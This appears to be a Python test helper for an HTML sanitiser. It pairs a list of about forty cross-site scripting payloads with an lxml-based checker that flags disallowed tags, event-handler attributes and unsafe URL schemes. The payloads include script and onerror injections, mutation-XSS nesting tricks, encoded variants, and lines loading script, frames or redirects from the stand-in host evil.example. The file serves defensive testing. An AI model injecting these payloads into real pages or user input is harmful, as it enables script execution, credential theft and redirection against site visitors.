"""Texts somebody might type to get markup into what is published, and a judge of HTML independent of ours."""

from urllib.parse import urlsplit

from lxml import html as lxml_html

PAYLOADS = (
    "<script>alert(1)</script>",
    "</p><script src=//evil.example/x.js></script><p>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    '<a href="javascript:alert(1)">press</a>',
    '<a href="java&#10;script:alert(1)">press</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name=q></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<base href=https://evil.example/>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<svg><style><a title="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&lt;img src=x onerror=alert(1)&gt",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt/x>alert(1)//",
    "<<b>script>alert(1)<</b>/script>",
    "</title></textarea></style></script><svg/onload=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "`${alert(1)}` {{7*7}} {%x%} <%= 1 %>",
    "\\<1>\\</1> \\\\<script>alert(1)</script>",
    "<a\u200bhref=javascript:alert(1)>x",
    "＜script＞alert(1)＜/script＞",
)

MAY_BE_PUBLISHED = {
    "a", "abbr", "b", "bdi", "blockquote", "br", "caption", "cite", "code", "del", "dfn", "em", "figcaption",
    "figure", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p",
    "pre", "q", "s", "samp", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
    "thead", "time", "tr", "u", "ul", "var",
}  # fmt: skip
ADDRESSES = {"cite", "href", "src"}


def harm(html: str) -> list[str]:
    """What there is in a fragment that must not be, as lxml reads it."""
    found = []
    for element in lxml_html.fragment_fromstring(html, create_parent="body").iterdescendants():
        if element.tag not in MAY_BE_PUBLISHED:
            found.append(f"element {element.tag}")
        for name, value in element.attrib.items():
            scheme = urlsplit(value.strip()).scheme if name in ADDRESSES else ""
            if name.startswith("on") or name in ("style", "srcdoc", "action", "formaction"):
                found.append(f"attribute {name}")
            if scheme not in ("", "http", "https", "mailto", "tel"):
                found.append(f"address {value}")
    return found


def shape(html: str) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    """The elements in order with their attributes, but for those whose text is translated."""
    body = lxml_html.fragment_fromstring(html, create_parent="body")
    return [
        (
            element.tag,
            tuple(sorted((key, value) for key, value in element.attrib.items() if key not in ("alt", "title"))),
        )
        for element in body.iterdescendants()
    ]
